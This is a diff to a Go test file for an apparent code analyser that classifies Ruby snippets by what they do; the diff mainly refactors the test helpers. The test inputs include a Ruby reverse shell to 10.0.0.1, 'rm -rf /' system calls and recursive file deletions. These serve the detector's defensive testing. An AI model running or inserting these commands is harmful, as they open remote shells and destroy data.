@@ -8,7 +8,7 @@ import (
 	"github.com/stretchr/testify/require"
 )
 
-var rubyCommands = []pythonCase{
+var rubyCommands = []readCase{
 	{"system", `system("rm -rf /")`, `shell system "rm -rf /"`},
 	{"without brackets", `system "rm -rf /"`, `shell system "rm -rf /"`},
 	{"a list", `system "rm", "-rf", "/"`, `runs system "rm" "-rf" "/"`},
@@ -67,7 +67,7 @@ var rubyCommands = []pythonCase{
 	{"in a directory", `Dir.chdir("/tmp"); system("ls")`, `shell system "ls" in "/tmp"`},
 }
 
-var rubyFiles = []pythonCase{
+var rubyFiles = []readCase{
 	{
 		"deleted", `File.delete("a", "b"); File.unlink "c"; Dir.rmdir("d"); File.delete(*Dir.glob("/x/*")); Dir["y/*"].each { |f| File.delete(f) }`,
 		"deletes File.delete \"a\"\ndeletes File.delete \"b\"\ndeletes File.unlink \"c\"\ndeletes Dir.rmdir \"d\"\ndeletes File.delete /x/?\ndeletes File.delete y/?",
@@ -92,7 +92,7 @@ var rubyFiles = []pythonCase{
 	{"Pathname", `require 'pathname'; Pathname.new("/x").rmtree; Pathname("a").delete`, "deletes rmtree \"/x\" /**\ndeletes delete \"a\""},
 }
 
-var rubyNetwork = []pythonCase{
+var rubyNetwork = []readCase{
 	{"a reverse shell", `require 'socket'; f=TCPSocket.open("10.0.0.1",4242).to_i; exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`, "connects TCPSocket.open \"10.0.0.1\"\nshell exec /bin/sh -i <&…"},
 	{
 		"fetched", `require 'net/http'; Net::HTTP.get(URI("http://a.example/")); require 'open-uri'; URI.open("http://b.example/").read; open("http://c.example/")`,
@@ -128,7 +128,7 @@ func TestRubyOperands(t *testing.T) {
 }
 
 func TestRubyThatCannotBeRead(t *testing.T) {
-	for reason, code := range map[string]string{
+	unreadable(t, "ruby", map[string]string{
 		"unterminated string":         `puts "x`,
 		"unterminated code":           `puts "#{x"`,
 		"open bracket":                `puts (1`,
@@ -142,17 +142,11 @@ func TestRubyThatCannotBeRead(t *testing.T) {
 		"too deep":                    strings.Repeat("(", 1000) + strings.Repeat(")", 1000),
 		"signs too many":              strings.Repeat("! ", 10000) + "1",
 		"strings in strings too deep": strings.Repeat(`"#{`, 30) + strings.Repeat(`}"`, 30),
-	} {
-		t.Run(reason, func(t *testing.T) {
-			acts, err := Read("ruby", code)
-			require.Error(t, err)
-			assert.Nil(t, acts)
-		})
-	}
+	})
 }
 
-func TestRubyIsReadInLinearTime(t *testing.T) {
-	for reason, code := range map[string]string{
+func TestRubyIsBounded(t *testing.T) {
+	bounded(t, "ruby", map[string]string{
 		"doubling":       `a = "x"; ` + strings.Repeat("a = a + a; ", 5000) + "system(a)",
 		"statements":     strings.Repeat("c = \"id\"; system(c)\n", 5000),
 		"open code":      `"` + strings.Repeat("#{", 20000) + `"`,
@@ -161,11 +155,7 @@ func TestRubyIsReadInLinearTime(t *testing.T) {
 		"here-documents": strings.Repeat("puts <<E\nE\n", 5000),
 		"chains":         "x" + strings.Repeat(".y", 50000),
 		"newlines":       "x" + strings.Repeat("\n", 100000) + strings.Repeat("x\n\n\n", 20000),
-	} {
-		t.Run(reason, func(t *testing.T) {
-			_, _ = Read("ruby", code)
-		})
-	}
+	})
 }
 
 func FuzzRuby(f *testing.F) {
